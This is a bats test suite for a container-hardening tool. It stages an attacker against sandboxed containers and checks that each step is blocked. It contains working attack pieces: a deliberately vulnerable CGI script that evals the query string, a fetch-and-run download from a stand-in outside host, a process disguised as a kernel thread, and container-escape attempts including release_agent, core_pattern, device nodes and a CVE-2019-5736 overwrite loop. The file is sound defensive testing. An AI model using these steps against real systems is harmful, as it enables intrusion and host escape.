#!/usr/bin/env bats
# The talk's attacker: a service is exploited, the kernel tried, the hold hidden. And its claims: limits that do not hold alone,
# what a neighbour can learn, the ways out that were found over the years, as far as they can be tried without harm.

# shellcheck disable=SC2046,SC2086,SC2016 # $SANDBOX holds no blanks, bulkhead args are words; what stands in single quotes is for the container
load helpers
load harden

setup_file() {
	sandbox_open
	mkdir -p $SANDBOX/nohooks $SANDBOX/www/cgi-bin
	policy </dev/null
	# A service with a hole: it runs what it is asked.
	printf '#!/bin/sh\nprintf "Content-Type: text/plain\\r\\n\\r\\n"\neval "$(httpd -d "$QUERY_STRING")" 2>&1\n' >$SANDBOX/www/cgi-bin/x
	chmod +x $SANDBOX/www/cgi-bin/x
	echo hello >$SANDBOX/www/index.html
}
teardown_file() { sandbox_close; }

# exploit ADDRESS COMMAND: what the intruder does.
exploit() {
	exec 5<>"/dev/tcp/$1/80" || return
	printf 'GET /cgi-bin/x?%s HTTP/1.0\r\n\r\n' "$(jq -rn --arg c "$2" '$c | @uri')" >&5
	timeout 20 sed '1,/^\r*$/d' <&5
	exec 5<&-
}

# world: a network outside, where the intruder has his tools; here the host serves the same to whom it should not.
world() {
	ip netns add world
	ip link add up0 type veth peer name w0 netns world
	ip addr add 198.51.100.1/24 dev up0 && ip link set up0 up && ip route add default via 198.51.100.2
	ip -n world addr add 198.51.100.2/24 dev w0 && ip -n world link set w0 up && ip -n world route add 10.89.0.0/16 via 198.51.100.1
	echo 1 >/proc/sys/net/ipv4/ip_forward
	mkdir -p $SANDBOX/tools && cp "$BULKHEAD_BIN/test/tryout" $SANDBOX/tools/tool
	ip netns exec world busybox httpd -f -p 198.51.100.2:80 -h $SANDBOX/tools 3>&- &
	servers=$!
	busybox httpd -f -p 8099 -h $SANDBOX/tools 3>&- &
	servers+=" $!"
}
fetch() { exploit "$address" "timeout 3 wget -q -O /tmp/tool http://$1/tool && echo fetched; chmod +x /tmp/tool; echo end"; }

@test "the intruder: gets in, finds the kernel closed, hides, is found and removed, and is on the receipt" {
	requires root podman netns podmancni
	RUNTIME=runc
	harden_control
	world
	victim=$(start shop -v $SANDBOX/www:/www:ro -- httpd -f -p 80 -h /www)
	other=$(start neighbour)
	listen neighbour
	address=$(ip_of shop)
	eventually busybox wget -q -O /dev/null "http://$address:80/index.html"
	# 1. In: it is root in the container. That is what it is given.
	run exploit "$address" 'id -u'
	[ "$output" = 0 ] || fail "$output"
	# 2. Tools: not from the neighbour, not from the host (control: it serves them); from outside, as policy allows by default.
	busybox wget -q -O /dev/null "http://10.89.64.1:8099/tool"
	for server in "$(ip_of neighbour)" 10.89.64.1:8099 198.51.100.1:8099; do
		run fetch "$server"
		contains "$output" end
		lacks "$output" fetched
	done
	run fetch 198.51.100.2
	contains "$output" fetched
	# 3. The kernel: nothing that the toolset tries works.
	exploit "$address" '/tmp/tool' >"$BATS_TEST_TMPDIR/tool.json"
	judge_all "$BATS_TEST_TMPDIR/tool.json"
	# 4. The neighbours: what they run is not to be seen, nor their files.
	run exploit "$address" 'ps; ls /proc | grep -c "^[0-9]"; find / -xdev -name "*neighbour*" 2>/dev/null'
	lacks "$output" "sleep 1000" neighbour
	# 5. The hold: it passes itself off as a kernel thread, and stays. That is seen, and ended; the shop is still open.
	exploit "$address" 'sh -c "printf kworker/u8:3 >/proc/\$\$/comm; while :; do sleep 1; done" >/dev/null 2>&1 </dev/null & echo'
	eventually sh -c "cat /proc/[0-9]*/comm | grep -qx kworker/u8:3"
	run bulkhead rogues
	[ "$status" -eq 1 ]
	contains "$output" "kworker/u8:3" "looks like a kernel thread" shop
	run bulkhead rogues --kill
	[ "$status" -eq 0 ] || fail "$output"
	busybox wget -q -O /dev/null "http://$address:80/index.html"
	run bulkhead rogues
	[ "$status" -eq 0 ] || fail "$output"
	# 6. The books: what was refused at the port, what was fetched, and that nothing is left.
	podman rm -f -t 0 "$victim"
	eventually test -n "$(receipt_of "$victim")"
	line=$(receipt_of "$victim")
	[ "$(jq '.leftovers == 0 and .net[0].dropped_policy >= 3 and .net[0].in_bytes > 1000000 and .pids_peak > 1' <<<"$line")" = true ] || fail "$line"
	# With `egress.default = "deny"` the tools do not even come.
	policy <<-END
		[egress]
		default = "deny"
	END
	victim=$(start shop -v $SANDBOX/www:/www:ro -- httpd -f -p 80 -h /www)
	address=$(ip_of shop)
	eventually busybox wget -q -O /dev/null "http://$address:80/index.html"
	run fetch 198.51.100.2
	contains "$output" end
	lacks "$output" fetched
	policy </dev/null
	podman rm -f -t 0 "$victim" "$other"
	kill $servers
	ip netns del world
	ip link del up0 2>/dev/null || true
}

receipt_of() { receipts | jq -c --arg id "$1" 'select(.id == $id)'; }

ALL_WAYS='abstract socket
keyring
shared memory
message queue
file in /dev/shm
process
host name
cgroup
mounts
kernel log
kernel addresses
neighbour'"'"'s address'

ways() {
	local tool=(-v "$BULKHEAD_BIN/test/leak:/leak:ro" --cap-add all "${UNCONFINED[@]}" --security-opt unmask=ALL)
	red=$(start leak-red --network bulkhead --hostname secret-red "${tool[@]}" -- /leak plant secret-red)
	eventually planted podman leak-red
	run podman run --rm --network bulkhead --cgroupns host "${tool[@]}" "$IMAGE" /leak find secret-red "$(ip_of leak-red)" "$red" "${red:0:12}"
	[ "$output" = looked ] || fail "$RUNTIME: heard of by: $output" || return
	podman rm -f -t 0 leak-red
}
planted() { "$1" logs "$2" | grep -qx planted; }

@test "what one can learn of another, way by way: each is heard of without bulkhead where namespaces are shared, none with it" {
	requires root netns podmancni
	policy </dev/null
	each_runtime ways
	# Control: in the other's namespaces, as members of a pod or with the host's, every way is heard of.
	RUNTIME=runc
	jq '.name = "bare" | .plugins |= map(select(.type == "bridge"))' $SANDBOX/etc/networks/bulkhead.conflist >$SANDBOX/etc/networks/bare.conflist
	tool=(-v "$BULKHEAD_BIN/test/leak:/leak:ro" --cap-add all "${UNCONFINED[@]}" --security-opt unmask=ALL --cgroupns host)
	red=$(bare run -d --name leak-red --network bare --hostname secret-red --ipc shareable "${tool[@]}" "$IMAGE" /leak plant secret-red)
	eventually planted bare leak-red
	address=$(bare inspect -f '{{.NetworkSettings.Networks.bare.IPAddress}}' leak-red)
	heard=$(bare run --rm --network container:leak-red --ipc container:leak-red --pid container:leak-red --uts container:leak-red "${tool[@]}" "$IMAGE" \
		/leak find secret-red 127.0.0.9 "$red" | grep -v "neighbour's")
	heard+=$'\n'$(bare run --rm --network bare "${tool[@]}" "$IMAGE" /leak find secret-red "$address" | grep "neighbour's")
	bare rm -f -t 0 leak-red
	rm $SANDBOX/etc/networks/bare.conflist
	[ "$(grep -vx looked <<<"$heard" | sort)" = "$(sort <<<"$ALL_WAYS")" ] || fail "heard of by: $heard"
}

@test "counters of the whole machine are out of reach: docs/hardening.md lists those that each profile leaves" {
	requires root podman
	RUNTIME=runc
	for profile in baseline talk strict; do
		policy <<-END
			[harden]
			profile = "$profile"
			user_namespace = "allow"
		END
		left=$(podman run --rm --network none -v "$BULKHEAD_BIN/test/leak:/leak:ro" "$IMAGE" /leak shared)
		mkdir -p "$TOP/build" && echo "$left" >"$TOP/build/counters-$profile"
		for file in $left; do
			grep -qF "\`$file\`" <(sed -n "/^| $profile | counters/p" "$TOP/docs/hardening.md") || fail "$profile leaves $file, and docs/hardening.md does not say so"
		done
	done
	policy </dev/null
}

# resolver NAME SUBNET [TENANT]: a network with a resolver of its own (dnsname).
resolver() {
	DENY_JSON=${3:+"\"tenant\": \"$3\""} network "$1" "$2" "" '{"type":"dnsname","domainName":"dns.podman","capabilities":{"aliases":true}}'
}

# ask FROM NAME SERVER: what the resolver there says of the name to that container.
ask() { podman exec "$1" timeout 3 nslookup "$2" "$3" 2>&1 | sed -n '/^Name:/,$p' || true; }

@test "what one can learn of another from resolvers: a tenant's own network tells its own names and no other's" {
	requires root netns podmancni command:/usr/lib/cni/dnsname command:dnsmasq
	RUNTIME=runc
	# Control: one network for both, and its resolver tells each the other's name (doctor warns of such a network).
	resolver shared 10.89.73.0/24
	start red-shared --network shared
	start asker --network shared
	contains "$(ask asker red-shared.dns.podman 10.89.73.1)" "$(ip_of red-shared shared)"
	podman rm -f -t 0 red-shared asker
	resolver blue 10.89.71.0/24 blue
	resolver red 10.89.72.0/24 red
	red=$(start secret-red --network red)
	start asker --network blue
	start friend --network blue
	contains "$(ask asker friend.dns.podman 10.89.71.1)" "$(ip_of friend blue)"
	address=$(ip_of secret-red red)
	for name in secret-red.dns.podman "${red:0:12}.dns.podman" "$address"; do
		lacks "$(ask asker "$name" 10.89.71.1)" "Name:" secret "$address"
	done
	lacks "$(ask asker secret-red.dns.podman 10.89.72.1)" "Name:" secret "$address"
	podman rm -f -t 0 secret-red asker friend
	rm $SANDBOX/etc/networks/{shared,blue,red}.conflist
}

escapes() {
	# With what an operator might give away: capabilities, no filter, no masks.
	with=(--rm --network none --cap-add all --security-opt seccomp=unconfined --security-opt unmask=ALL)
	# release_agent (CVE-2022-0492): wants a cgroup mount of its own.
	run podman run "${with[@]}" "$IMAGE" sh -c 'mkdir -p /tmp/c; mount -t cgroup -o none,name=escape x /tmp/c && echo MOUNTED; unshare -UrmC mount -t cgroup x /tmp/c && echo MOUNTED; echo tried'
	contains "$output" tried
	lacks "$output" MOUNTED
	# core_pattern, modprobe, uevent_helper: a program of the container's choice run by the kernel.
	run podman run "${with[@]}" "$IMAGE" sh -c 'for f in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /sys/kernel/uevent_helper; do [ -e $f ] && (cat $f >$f) 2>/dev/null && echo WROTE $f; done; echo tried'
	contains "$output" tried
	lacks "$output" WROTE
	# The host's disk, made as a device node.
	run podman run "${with[@]}" "$IMAGE" sh -c 'for n in "b 254 0" "b 8 0" "b 259 0" "c 1 1"; do mknod /tmp/d $n && echo MADE $n; done; echo tried'
	contains "$output" tried
	lacks "$output" MADE
	# Another container by its number of an open file (open_by_handle_at), and the kernel's log.
	run podman run "${with[@]}" -v "$BULKHEAD_BIN/test/tryout:/tryout:ro" "$IMAGE" /tryout open_by_handle_at syslog setns
	lacks "$output" '"result":"done"' '"result":"reached"'
}

@test "the ways out: release_agent, core_pattern, device nodes, file handles" {
	requires root podman
	each_runtime escapes
	# Control: without bulkhead, the same gifts let it mount and make nodes.
	RUNTIME=runc
	run bare run --rm --network none --cap-add all --security-opt seccomp=unconfined "$IMAGE" sh -c 'mkdir -p /tmp/c; mount -t tmpfs x /tmp/c && echo MOUNTED; mknod /tmp/d c 1 3 && echo MADE'
	contains "$output" MOUNTED MADE
}

leaked_fd() {
	sibling=$(start sibling --network none)
	pid=$(podman inspect -f '{{.State.Pid}}' sibling)
	BUNDLE_JQ='del(.hooks, .linux.seccomp) | .process.capabilities |= with_entries(.value += ["CAP_SYS_ADMIN"])'
	for name in leak-bare leak-held; do bundle $name nsenter --uts=/proc/self/fd/3 hostname >/dev/null; done
	# Control: the runtime itself, with a descriptor of the sibling's namespace left open: it gets in.
	run runtime "$RUNTIME" run --preserve-fds 1 --bundle $SANDBOX/bundles/leak-bare leak-bare 3<"/proc/$pid/ns/uts"
	[ "$status" -eq 0 ] || fail "$output"
	wrapper "$RUNTIME"
	run "$SANDBOX/wrapped-$RUNTIME" --root "$SANDBOX/state/$RUNTIME" run --preserve-fds 1 --bundle $SANDBOX/bundles/leak-held leak-held 3<"/proc/$pid/ns/uts"
	[ "$status" -ne 0 ] || fail "entered: $output"
	podman rm -f -t 0 "$sibling"
}

@test "a leaked descriptor of a sibling's namespace is of no use" {
	requires root podman
	each_runtime leaked_fd
}

# What a container does to every program of the host's that shows itself in its PID namespace: keeps it open, and writes to it once
# it has ended.
OVERWRITER='while :; do for p in /proc/[0-9]*; do
	case $(readlink $p/exe) in "" | /bin/busybox) continue ;; esac
	(exec 3<$p/exe; i=0; while [ $i -lt 200 ]; do (echo OWNED >/proc/self/fd/3) 2>/dev/null && echo WROTE && break; i=$((i+1)); done)
done; done'

# copied: the runtime is a copy, which may be spoilt; the host's own programs are read-only from now on in this mount namespace.
copied() {
	local real copy=$SANDBOX/copies/$RUNTIME
	real=$(readlink -f "$(command -v "$RUNTIME")")
	mkdir -p $SANDBOX/copies
	cp "$real" "$copy"
	if [ -L "$SANDBOX/runtimes/$RUNTIME" ]; then
		ln -sfn "$copy" "$SANDBOX/runtimes/$RUNTIME"
	else
		sed -i "s|$real|$copy|; s|/usr/bin/$RUNTIME|$copy|" "$SANDBOX/runtimes/$RUNTIME"
		grep -q "$copy" "$SANDBOX/runtimes/$RUNTIME"
	fi
}

overwrite() {
	copied
	before=$(sha256sum "$SANDBOX/copies/$RUNTIME" "$SANDBOX/bin/bulkhead-runtime")
	id=$(start overwriter --network none --cap-add all "${UNCONFINED[@]}" -- sh -c "$OVERWRITER")
	for ((i = 0; i < 3; i++)); do
		podman exec overwriter /proc/self/exe >/dev/null 2>&1 || true
		podman exec overwriter true
	done
	lacks "$(podman logs overwriter 2>&1)" WROTE
	podman rm -f -t 0 "$id"
	id=$(wrapped run -d --name overwriter --network none --cap-add all "${UNCONFINED[@]}" "$IMAGE" sh -c "$OVERWRITER")
	for ((i = 0; i < 3; i++)); do wrapped exec overwriter /proc/self/exe >/dev/null 2>&1 || true; done
	lacks "$(wrapped logs overwriter 2>&1)" WROTE
	wrapped rm -f -t 0 "$id"
	[ "$(sha256sum "$SANDBOX/copies/$RUNTIME" "$SANDBOX/bin/bulkhead-runtime")" = "$before" ]
}

# visited PID: a program of the host's that does not guard itself comes into a container's PID namespace: a copy of nsenter, for whatever
# shows itself there is lost.
visited() {
	$SANDBOX/copies/nsenter -t "$1" -p -- $SANDBOX/copies/nsenter --version >/dev/null 2>&1 || true
	grep -qx OWNED $SANDBOX/copies/nsenter
}

@test "the runtime's own program is not overwritten through /proc (CVE-2019-5736)" {
	requires root podman
	mount --bind /usr /usr
	mount -o remount,ro,bind /usr
	each_runtime overwrite
	# Control: what comes into a container that has been given everything, and does not guard itself, is overwritten on the host.
	RUNTIME=runc
	cp "$(command -v nsenter)" $SANDBOX/copies/nsenter
	id=$(bare run -d --name overwriter --network none --cap-add all "${UNCONFINED[@]}" "$IMAGE" sh -c "$OVERWRITER")
	eventually visited "$(bare inspect -f '{{.State.Pid}}' overwriter)"
	bare rm -f -t 0 "$id"
	# The same gifts under bulkhead: the container may not even look at a program that has more rights than it.
	cp "$(command -v nsenter)" $SANDBOX/copies/nsenter
	id=$(start overwriter --network none --cap-add all "${UNCONFINED[@]}" -- sh -c "$OVERWRITER")
	pid=$(podman inspect -f '{{.State.Pid}}' overwriter)
	for ((i = 0; i < 20; i++)); do
		if visited "$pid"; then fail "the host's program was overwritten"; fi
	done
	podman rm -f -t 0 "$id"
}

@test "rlimits do not hold alone: counted by user, so one container uses up another's; the pids ceiling does" {
	requires root podman
	RUNTIME=runc
	fill='(i=0; while [ $i -lt 40 ]; do sleep 1000 & i=$((i+1)); done) 2>/dev/null; exec sleep 1000'
	hog=$(bare run -d --name hog --network none --user 54321 --ulimit nofile=1024:20000 --ulimit nproc=20:20 "$IMAGE" sh -c "$fill")
	eventually exhausted
	bare rm -f -t 0 "$hog"
	policy <<-END
		[cgroup]
		pids_max = 20
	END
	hog=$(start hog --network none --user 54321 --ulimit nofile=1024:20000 --ulimit nproc=2048:2048 -- sh -c "$fill")
	eventually full
	run podman run --rm --network none --user 54321 --ulimit nofile=1024:20000 --ulimit nproc=2048:2048 "$IMAGE" sh -c 'echo a | cat | cat && echo works'
	[ "$status" -eq 0 ] || fail "$output"
	contains "$output" works
	podman rm -f -t 0 "$hog"
	policy </dev/null
}

# A sibling under the same user cannot fork, though its own container runs one process.
exhausted() { ! bare run --rm --network none --user 54321 --ulimit nofile=1024:20000 --ulimit nproc=20:20 "$IMAGE" sh -c 'echo a | cat | cat && echo works' | grep -q works; }
full() { [ "$(podman top hog pid | wc -l)" -ge 18 ] || podman exec hog true 2>&1 | grep -qiE 'resource|cannot|fork|pids'; }

acls() {
	local tenant=/srv/tenants/blue file=/srv/tenants/blue/secret name
	mkdir -p $tenant && echo SECRET >$file && chmod 644 $file
	setfacl -m u:5001:--- $file
	# The list alone: who is on it is refused, and that is all.
	run bare run --rm --network none --user 5001 -v $tenant:/b "$IMAGE" cat /b/secret
	lacks "$output" SECRET
	for user in 5002 0; do # another user, and root, who needs no permission
		run bare run --rm --network none --user $user -v $tenant:/b "$IMAGE" cat /b/secret
		contains "$output" SECRET
	done
	ln -sfn $tenant $SANDBOX/innocent
	mkdir -p /srv/other && mountpoint -q /srv/other || mount --bind $tenant /srv/other
	# Here the tree is blue's by policy: red does not get it, whoever it runs as and by whatever name; blue does.
	for name in $tenant $SANDBOX/innocent /srv /srv/other $file; do
		for user in 5002 0; do
			run podman run --rm --network none $(bulkhead args red) --user $user -v "$name:/b" "$IMAGE" sh -c 'cat /b /b/secret /b/*/blue/secret; echo started'
			lacks "$output" SECRET started
		done
	done
	run podman run --rm --network none $(bulkhead args blue) -v $tenant:/b "$IMAGE" cat /b/secret
	contains "$output" SECRET
	umount /srv/other
}

@test "a blacklist does not hold alone: there is always another name; here a tree is its tenant's, by every name" {
	requires root podman command:setfacl
	mount -t tmpfs tmpfs /srv
	policy <<-END
		[level]
		use = "off"
		relabel = ["/srv/tenants/{tenant}"]
	END
	each_runtime acls
	umount /srv
	policy </dev/null
}
